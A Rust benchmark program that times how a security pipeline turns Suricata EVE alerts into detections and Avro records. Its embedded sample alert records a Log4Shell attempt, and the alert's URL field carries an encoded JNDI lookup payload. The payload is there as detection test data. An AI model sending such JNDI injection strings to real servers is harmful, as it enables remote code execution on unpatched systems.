//! CPU time of an alert's way: bytes → detection → Avro, over a generated EVE alert and over every alert of the files given.
//!
//! `bench_alert [ROUNDS] [FILE…]`; build with `--release`. Prints µs an alert, each step's share, and sizes.
use atio_formats::ReadCx;
use atio_normalization::{Deps, config::Config, config::Source, processor};
use atio_schemas::codec::StaticIds;
use atio_schemas::{Codec, Detection, Timestamp};
use atio_stage::harness::{Given, Harness};
use atio_stage::{Overlay, Processor, Record, State, Tables, Tx};
use std::sync::Arc;

/// The program's own allocator.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

const ROUNDS: u32 = 20_000;

/// 1.4 KB, as Suricata 7 with ET's rules writes it.
const ALERT: &str = r#"{"timestamp":"2026-01-02T03:04:05.123456+0000","flow_id":1436512445203120,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.7","src_port":51022,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:Vz08QRsy2I1yGIXi37yvHKBnVwM=","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":2,"signature":"ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Web_Server_Applications"],"attack_target":["Server"],"confidence":["High"],"created_at":["2021_12_10"],"cve":["CVE_2021_44228"],"deployment":["Perimeter"],"mitre_tactic_id":["TA0001"],"mitre_tactic_name":["Initial_Access"],"mitre_technique_id":["T1190"],"mitre_technique_name":["Exploit_Public_Facing_Application"],"signature_severity":["Major"],"updated_at":["2023_06_14"]}},"http":{"hostname":"shop.example.org","http_port":8080,"url":"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D","http_user_agent":"curl/8.5.0","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":512},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":612,"bytes_toclient":1928,"start":"2026-01-02T03:04:05.100000+0000","src_ip":"203.0.113.7","dest_ip":"10.20.30.40","src_port":51022,"dest_port":8080},"host":"probe-1"}"#;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let codec = Codec::new(Arc::new(StaticIds::new()));
    let mut out = std::io::stdout();
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    let given = args.first().and_then(|arg| arg.parse::<u32>().ok());
    args.drain(..usize::from(given.is_some()));
    let rounds = given.unwrap_or(ROUNDS);
    measure("generated", &[ALERT.as_bytes().to_vec()], rounds, &codec, &mut out)?;
    let mut corpus = vec![];
    for name in args {
        let bytes = std::fs::read(&name)?;
        let alerts = bytes.split(|b| *b == b'\n').filter(|l| find(l, b"\"event_type\":\"alert\""));
        corpus.extend(alerts.map(<[u8]>::to_vec));
    }
    if !corpus.is_empty() {
        let rounds = (rounds / u32::try_from(corpus.len())?).max(1) * 3;
        measure("corpus", &corpus, rounds, &codec, &mut out)?;
    }
    Ok(())
}

fn find(line: &[u8], needle: &[u8]) -> bool {
    line.windows(needle.len()).any(|window| window == needle)
}

fn measure(
    name: &str,
    alerts: &[Vec<u8>],
    rounds: u32,
    codec: &Codec,
    out: &mut impl std::io::Write,
) -> Result<(), Box<dyn std::error::Error>> {
    let mut source = Source::new("suricata", "atio.raw.suricata");
    (source.naked, source.format) = (true, Some("suricata".to_owned()));
    let deps = Deps {
        prefix: "atio.".to_owned(),
        codec: codec.clone(),
        config: Config::default(),
        sources: vec![source],
    };
    let tables = [atio_normalization::assets_table("atio.", codec)];
    let stage = processor(deps.clone());
    let mut harness = Harness::new(processor(deps), &tables, Timestamp(0));
    let given: Vec<Given> = alerts
        .iter()
        .map(|alert| Given {
            topic: "atio.raw.suricata".to_owned(),
            value: Some(alert.clone()),
            ..Given::default()
        })
        .collect();
    harness.commit(&given);
    let tables = Tables(tables.iter().map(|t| (t.name.clone(), (t.make)())).collect());
    let detections: Vec<Detection> = harness
        .outputs
        .iter()
        .map(|o| codec.decode(o.value.as_deref().unwrap_or_default()))
        .collect::<Result<_, _>>()?;
    let bytes: usize = harness.outputs.iter().map(atio_stage::Output::size).sum();
    let bundle: usize = detections.iter().map(|d| d.bundle.len()).sum();
    let events = alerts.len() * usize::try_from(rounds)?;

    let whole = timed(rounds, || process(&stage, &tables, &given));
    let format = atio_formats::format("suricata").ok_or("no suricata reader")?;
    let cx = ReadCx::new(Timestamp(0));
    let read = timed(rounds, || {
        for alert in alerts {
            std::hint::black_box(atio_formats::read(alert, format, &cx));
        }
    });
    let general = timed(rounds, || {
        for detection in &detections {
            std::hint::black_box(codec.encode(detection).ok());
        }
    });
    let each = |seconds: f64| seconds * 1e6 / events as f64;
    writeln!(
        out,
        "{name}: {:.2} µs an alert (read {:.2}, graph and Avro {:.2}; the general Avro encoder alone takes {:.2}); {} alerts, {} bytes a record, {} bytes a bundle",
        each(whole),
        each(read),
        each(whole - read),
        each(general),
        alerts.len(),
        bytes / alerts.len(),
        bundle / alerts.len(),
    )?;
    Ok(())
}

/// What the driver does with a batch, Kafka aside.
fn process(stage: &impl Processor, tables: &Tables, given: &[Given]) {
    let (state, mut overlay) = (State::default(), Overlay::default());
    let mut tx = Tx::new(Timestamp(0), &state, &mut overlay, tables);
    for (offset, record) in given.iter().enumerate() {
        let record = Record {
            topic: &record.topic,
            partition: 0,
            offset: i64::try_from(offset).unwrap_or(0),
            timestamp: Timestamp(0),
            key: None,
            value: record.value.as_deref(),
            headers: &record.headers,
        };
        drop(std::hint::black_box(stage.process(&record, &mut tx)));
    }
}

fn timed(rounds: u32, mut run: impl FnMut()) -> f64 {
    run();
    let start = on_cpu();
    for _ in 0..rounds {
        run();
    }
    on_cpu() - start
}

/// Seconds that this process has been on a CPU (Linux), so that neighbours do not count.
fn on_cpu() -> f64 {
    let text = std::fs::read_to_string("/proc/self/schedstat").unwrap_or_default();
    text.split(' ').next().and_then(|ns| ns.parse::<f64>().ok()).unwrap_or(f64::NAN) / 1e9
}
